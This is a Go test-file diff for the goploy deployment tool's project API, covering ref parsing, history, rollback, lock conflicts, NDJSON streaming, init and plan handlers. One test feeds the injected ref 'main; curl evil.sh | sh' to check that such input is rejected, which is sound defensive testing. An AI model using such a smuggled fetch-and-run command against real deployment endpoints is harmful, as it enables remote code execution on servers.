@@ -2,40 +2,80 @@ package projects_test
 
 import (
 	"context"
+	"encoding/json"
+	"errors"
 	"io"
 	"net/http"
 	"net/http/httptest"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/pmaojo/goploy/internal/api"
 	"github.com/pmaojo/goploy/internal/api/handlers/projects"
 	"github.com/pmaojo/goploy/internal/config"
 	"github.com/pmaojo/goploy/internal/deployment"
+	"github.com/pmaojo/goploy/internal/history"
 	"github.com/labstack/echo/v4"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 )
 
 type MockDeployment struct {
-	DeployFunc func(project config.Project, output io.Writer, ref string) error
+	DeployFunc   func(project config.Project, events deployment.EventSink, ref string) error
+	RollbackFunc func(project config.Project, events deployment.EventSink) error
+	InitFunc     func(project config.Project, events deployment.EventSink) error
+	PlanFunc     func(project config.Project, ref string) (deployment.DeploymentPlan, error)
 }
 
-func (m *MockDeployment) Deploy(project config.Project, output io.Writer, ref string) error {
+func (m *MockDeployment) Deploy(ctx context.Context, project config.Project, events deployment.EventSink, ref string) error {
 	if m.DeployFunc != nil {
-		return m.DeployFunc(project, output, ref)
+		return m.DeployFunc(project, events, ref)
+	}
+	return nil
+}
+func (m *MockDeployment) Init(ctx context.Context, project config.Project, events deployment.EventSink) error {
+	if m.InitFunc != nil {
+		return m.InitFunc(project, events)
+	}
+	return nil
+}
+func (m *MockDeployment) Plan(ctx context.Context, project config.Project, ref string) (deployment.DeploymentPlan, error) {
+	if m.PlanFunc != nil {
+		return m.PlanFunc(project, ref)
+	}
+	return deployment.DeploymentPlan{}, nil
+}
+func (m *MockDeployment) Rollback(ctx context.Context, project config.Project, events deployment.EventSink) error {
+	if m.RollbackFunc != nil {
+		return m.RollbackFunc(project, events)
 	}
 	return nil
 }
 func (m *MockDeployment) StreamLogs(ctx context.Context, project config.Project, output io.Writer) error {
 	return nil
 }
-func (m *MockDeployment) Restart(project config.Project, output io.Writer) error { return nil }
-func (m *MockDeployment) Stop(project config.Project, output io.Writer) error    { return nil }
-func (m *MockDeployment) ListServices(project config.Project) ([]string, error)  { return nil, nil }
-func (m *MockDeployment) RunShell(project config.Project, service string) error  { return nil }
+func (m *MockDeployment) Restart(ctx context.Context, project config.Project, output io.Writer) error {
+	return nil
+}
+func (m *MockDeployment) Stop(ctx context.Context, project config.Project, output io.Writer) error {
+	return nil
+}
+func (m *MockDeployment) ListServices(ctx context.Context, project config.Project) ([]string, error) {
+	return nil, nil
+}
+func (m *MockDeployment) RunShell(ctx context.Context, project config.Project, service string) error {
+	return nil
+}
 func (m *MockDeployment) GetStatus(ctx context.Context, project config.Project) (deployment.ProjectStatus, error) {
 	return deployment.ProjectStatus{}, nil
 }
+func (m *MockDeployment) UploadFile(ctx context.Context, project config.Project, content []byte, remotePath string) error {
+	return nil
+}
+func (m *MockDeployment) RunCommand(ctx context.Context, project config.Project, cmd string) error {
+	return nil
+}
 
 func TestTriggerDeploy_RefParsing(t *testing.T) {
 	e := echo.New()
@@ -48,7 +88,7 @@ func TestTriggerDeploy_RefParsing(t *testing.T) {
 	c.SetParamValues("test-project")
 
 	mockDep := &MockDeployment{
-		DeployFunc: func(project config.Project, output io.Writer, ref string) error {
+		DeployFunc: func(project config.Project, events deployment.EventSink, ref string) error {
 			assert.Equal(t, "feature/new-branch", ref)
 			return nil
 		},
@@ -70,3 +110,318 @@ func TestTriggerDeploy_RefParsing(t *testing.T) {
 		assert.Equal(t, http.StatusOK, rec.Code)
 	}
 }
+
+func TestTriggerDeploy_InvalidRef(t *testing.T) {
+	e := echo.New()
+	req := httptest.NewRequest(http.MethodPost, "/api/v1/projects/test-project/deploy", strings.NewReader(`{"ref":"main; curl evil.sh | sh"}`))
+	req.Header.Set(echo.HeaderContentType, echo.MIMEApplicationJSON)
+	rec := httptest.NewRecorder()
+	c := e.NewContext(req, rec)
+	c.SetParamNames("name")
+	c.SetParamValues("test-project")
+
+	s := &api.Server{
+		GoployConfig: &config.GoployConfig{
+			Projects: []config.Project{
+				{Name: "test-project"},
+			},
+		},
+		Deployment: &MockDeployment{
+			DeployFunc: func(project config.Project, events deployment.EventSink, ref string) error {
+				t.Fatal("invalid refs must not be deployed")
+				return nil
+			},
+		},
+	}
+
+	require.NoError(t, projects.TriggerDeploy(s)(c))
+	assert.Equal(t, http.StatusBadRequest, rec.Code)
+	assert.Contains(t, rec.Body.String(), "invalid ref")
+}
+
+func TestProjectDeployments(t *testing.T) {
+	store := history.NewStore(t.TempDir())
+	record := &history.Deployment{
+		Project:     "test-project",
+		Ref:         "main",
+		TriggeredBy: history.TriggerAPI,
+		Status:      history.StatusSuccess,
+		Output:      "deployed",
+	}
+	require.NoError(t, store.Save(record))
+
+	s := &api.Server{
+		GoployConfig: &config.GoployConfig{
+			Projects: []config.Project{
+				{Name: "test-project"},
+			},
+		},
+		History: store,
+	}
+
+	e := echo.New()
+
+	// List omits the captured output
+	req := httptest.NewRequest(http.MethodGet, "/api/v1/projects/test-project/deployments", nil)
+	rec := httptest.NewRecorder()
+	c := e.NewContext(req, rec)
+	c.SetParamNames("name")
+	c.SetParamValues("test-project")
+
+	require.NoError(t, projects.ListProjectDeployments(s)(c))
+	assert.Equal(t, http.StatusOK, rec.Code)
+	assert.Contains(t, rec.Body.String(), record.ID)
+	assert.NotContains(t, rec.Body.String(), "deployed")
+
+	// Single deployment includes the output
+	req = httptest.NewRequest(http.MethodGet, "/api/v1/projects/test-project/deployments/"+record.ID, nil)
+	rec = httptest.NewRecorder()
+	c = e.NewContext(req, rec)
+	c.SetParamNames("name", "id")
+	c.SetParamValues("test-project", record.ID)
+
+	require.NoError(t, projects.GetProjectDeployment(s)(c))
+	assert.Equal(t, http.StatusOK, rec.Code)
+	assert.Contains(t, rec.Body.String(), `"output":"deployed"`)
+
+	// Unknown deployment
+	req = httptest.NewRequest(http.MethodGet, "/api/v1/projects/test-project/deployments/unknown", nil)
+	rec = httptest.NewRecorder()
+	c = e.NewContext(req, rec)
+	c.SetParamNames("name", "id")
+	c.SetParamValues("test-project", "unknown")
+
+	require.NoError(t, projects.GetProjectDeployment(s)(c))
+	assert.Equal(t, http.StatusNotFound, rec.Code)
+}
+
+func TestRollbackProject(t *testing.T) {
+	store := history.NewStore(t.TempDir())
+	s := &api.Server{
+		GoployConfig: &config.GoployConfig{
+			Projects: []config.Project{
+				{Name: "test-project"},
+			},
+		},
+		History: store,
+	}
+
+	var rolledBack bool
+	s.Deployment = &MockDeployment{
+		RollbackFunc: func(project config.Project, events deployment.EventSink) error {
+			rolledBack = true
+			return nil
+		},
+	}
+
+	e := echo.New()
+	newContext := func() (echo.Context, *httptest.ResponseRecorder) {
+		req := httptest.NewRequest(http.MethodPost, "/api/v1/projects/test-project/rollback", nil)
+		rec := httptest.NewRecorder()
+		c := e.NewContext(req, rec)
+		c.SetParamNames("name")
+		c.SetParamValues("test-project")
+		return c, rec
+	}
+
+	// Nothing to roll back to yet
+	c, rec := newContext()
+	require.NoError(t, projects.RollbackProject(s)(c))
+	assert.Equal(t, http.StatusConflict, rec.Code)
+	assert.False(t, rolledBack)
+
+	require.NoError(t, store.Save(&history.Deployment{Project: "test-project", Status: history.StatusSuccess, CommitAfter: "aaa", StartedAt: time.Now().Add(-time.Hour)}))
+	require.NoError(t, store.Save(&history.Deployment{Project: "test-project", Status: history.StatusSuccess, CommitAfter: "bbb", StartedAt: time.Now()}))
+
+	c, rec = newContext()
+	require.NoError(t, projects.RollbackProject(s)(c))
+	assert.Equal(t, http.StatusOK, rec.Code)
+	assert.Contains(t, rec.Body.String(), "target commit: aaa")
+	assert.True(t, rolledBack)
+}
+
+func TestTriggerDeploy_LockConflict(t *testing.T) {
+	e := echo.New()
+	req := httptest.NewRequest(http.MethodPost, "/api/v1/projects/test-project/deploy", nil)
+	rec := httptest.NewRecorder()
+	c := e.NewContext(req, rec)
+	c.SetParamNames("name")
+	c.SetParamValues("test-project")
+
+	s := &api.Server{
+		GoployConfig: &config.GoployConfig{
+			Projects: []config.Project{
+				{Name: "test-project"},
+			},
+		},
+		Deployment: &MockDeployment{
+			DeployFunc: func(project config.Project, events deployment.EventSink, ref string) error {
+				return &deployment.LockError{Project: project.Name, Holder: "alice@laptop via tui (deploy)"}
+			},
+		},
+	}
+
+	require.NoError(t, projects.TriggerDeploy(s)(c))
+	assert.Equal(t, http.StatusConflict, rec.Code)
+	assert.Contains(t, rec.Body.String(), "alice@laptop via tui")
+}
+
+func TestTriggerDeploy_NDJSON(t *testing.T) {
+	e := echo.New()
+	req := httptest.NewRequest(http.MethodPost, "/api/v1/projects/test-project/deploy", nil)
+	req.Header.Set(echo.HeaderAccept, "application/x-ndjson")
+	rec := httptest.NewRecorder()
+	c := e.NewContext(req, rec)
+	c.SetParamNames("name")
+	c.SetParamValues("test-project")
+
+	s := &api.Server{
+		GoployConfig: &config.GoployConfig{
+			Projects: []config.Project{
+				{Name: "test-project"},
+			},
+		},
+		Deployment: &MockDeployment{
+			DeployFunc: func(project config.Project, events deployment.EventSink, ref string) error {
+				events.Emit(deployment.Event{Type: deployment.EventPhaseStarted, Phase: "fetch", Command: "git fetch --all"})
+				events.Emit(deployment.Event{Type: deployment.EventLog, Phase: "fetch", Stream: deployment.StreamStderr, Text: "fatal: no remote"})
+				events.Emit(deployment.Event{Type: deployment.EventResult, Phase: "deploy", Outcome: &deployment.Outcome{ExitCode: 128, Error: "step fetch failed"}})
+				return errors.New("step fetch failed")
+			},
+		},
+	}
+
+	require.NoError(t, projects.TriggerDeploy(s)(c))
+	assert.Equal(t, http.StatusOK, rec.Code)
+	assert.Equal(t, "application/x-ndjson", rec.Header().Get(echo.HeaderContentType))
+
+	lines := strings.Split(strings.TrimSpace(rec.Body.String()), "\n")
+	require.Len(t, lines, 3)
+
+	var event deployment.Event
+	require.NoError(t, json.Unmarshal([]byte(lines[1]), &event))
+	assert.Equal(t, deployment.EventLog, event.Type)
+	assert.Equal(t, deployment.StreamStderr, event.Stream)
+	assert.Equal(t, "fatal: no remote", event.Text)
+
+	require.NoError(t, json.Unmarshal([]byte(lines[2]), &event))
+	assert.Equal(t, deployment.EventResult, event.Type)
+	assert.Equal(t, 128, event.Outcome.ExitCode)
+}
+
+func TestInitProject(t *testing.T) {
+	e := echo.New()
+	newContext := func(name string) (echo.Context, *httptest.ResponseRecorder) {
+		req := httptest.NewRequest(http.MethodPost, "/api/v1/projects/"+name+"/init", nil)
+		rec := httptest.NewRecorder()
+		c := e.NewContext(req, rec)
+		c.SetParamNames("name")
+		c.SetParamValues(name)
+		return c, rec
+	}
+
+	var initialized string
+	s := &api.Server{
+		GoployConfig: &config.GoployConfig{
+			Projects: []config.Project{
+				{Name: "test-project"},
+			},
+		},
+		Deployment: &MockDeployment{
+			InitFunc: func(project config.Project, events deployment.EventSink) error {
+				initialized = project.Name
+				events.Emit(deployment.Event{Type: deployment.EventMessage, Text: "Cloning..."})
+				return nil
+			},
+		},
+	}
+
+	c, rec := newContext("unknown")
+	require.NoError(t, projects.InitProject(s)(c))
+	assert.Equal(t, http.StatusNotFound, rec.Code)
+
+	c, rec = newContext("test-project")
+	require.NoError(t, projects.InitProject(s)(c))
+	assert.Equal(t, http.StatusOK, rec.Code)
+	assert.Equal(t, "test-project", initialized)
+	assert.Contains(t, rec.Body.String(), "Initializing test-project...")
+	assert.Contains(t, rec.Body.String(), "Initialization finished successfully.")
+}
+
+func TestPlanDeploy(t *testing.T) {
+	e := echo.New()
+	newContext := func(name, body string) (echo.Context, *httptest.ResponseRecorder) {
+		req := httptest.NewRequest(http.MethodPost, "/api/v1/projects/"+name+"/plan", strings.NewReader(body))
+		req.Header.Set(echo.HeaderContentType, echo.MIMEApplicationJSON)
+		rec := httptest.NewRecorder()
+		c := e.NewContext(req, rec)
+		c.SetParamNames("name")
+		c.SetParamValues(name)
+		return c, rec
+	}
+
+	s := &api.Server{
+		GoployConfig: &config.GoployConfig{
+			Projects: []config.Project{
+				{Name: "test-project"},
+				{Name: "upload-project", Strategy: config.StrategyUpload},
+			},
+		},
+		Deployment: &MockDeployment{
+			PlanFunc: func(project config.Project, ref string) (deployment.DeploymentPlan, error) {
+				if ref == "missing" {
+					return deployment.DeploymentPlan{}, errors.New("ref missing not found on the host")
+				}
+				if ref == "locked" {
+					return deployment.DeploymentPlan{}, &deployment.LockError{Project: project.Name, Holder: "bob@ci via api (deploy)"}
+				}
+				if project.Strategy == config.StrategyUpload {
+					return deployment.DeploymentPlan{}, &deployment.PlanRequestError{Err: errors.New("upload deployments cannot be planned")}
+				}
+				return deployment.DeploymentPlan{Project: project.Name, Ref: ref, Hosts: []deployment.HostPlan{{
+					Host:     "web1",
+					Current:  "abc",
+					Target:   "def",
+					Commits:  []deployment.PlannedCommit{{Commit: "def", Author: "Dev <dev@example.com>", Subject: "Bump api"}},
+					Services: []deployment.ServiceChange{{Service: "api", Change: deployment.ServiceRebuild}},
+				}}}, nil
+			},
+		},
+	}
+
+	c, rec := newContext("unknown", `{}`)
+	require.NoError(t, projects.PlanDeploy(s)(c))
+	assert.Equal(t, http.StatusNotFound, rec.Code)
+
+	c, rec = newContext("test-project", `{"ref": "v2"}`)
+	require.NoError(t, projects.PlanDeploy(s)(c))
+	assert.Equal(t, http.StatusOK, rec.Code)
+
+	var plan deployment.DeploymentPlan
+	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &plan))
+	assert.Equal(t, "v2", plan.Ref)
+	require.Len(t, plan.Hosts, 1)
+	assert.Equal(t, "Bump api", plan.Hosts[0].Commits[0].Subject)
+	assert.Equal(t, []deployment.ServiceChange{{Service: "api", Change: deployment.ServiceRebuild}}, plan.Hosts[0].Services)
+
+	c, rec = newContext("test-project", `{"ref": "missing"}`)
+	require.NoError(t, projects.PlanDeploy(s)(c))
+	assert.Equal(t, http.StatusInternalServerError, rec.Code)
+	assert.Contains(t, rec.Body.String(), "ref missing not found on the host")
+
+	c, rec = newContext("test-project", `{"ref": "locked"}`)
+	require.NoError(t, projects.PlanDeploy(s)(c))
+	assert.Equal(t, http.StatusConflict, rec.Code)
+	assert.Contains(t, rec.Body.String(), "is locked by bob@ci via api (deploy)")
+
+	// Requests that cannot be planned are rejected like deployments
+	c, rec = newContext("test-project", `{"ref": "-x"}`)
+	require.NoError(t, projects.PlanDeploy(s)(c))
+	assert.Equal(t, http.StatusBadRequest, rec.Code)
+	assert.Contains(t, rec.Body.String(), "invalid ref")
+
+	c, rec = newContext("upload-project", `{}`)
+	require.NoError(t, projects.PlanDeploy(s)(c))
+	assert.Equal(t, http.StatusBadRequest, rec.Code)
+	assert.Contains(t, rec.Body.String(), "upload deployments cannot be planned")
+}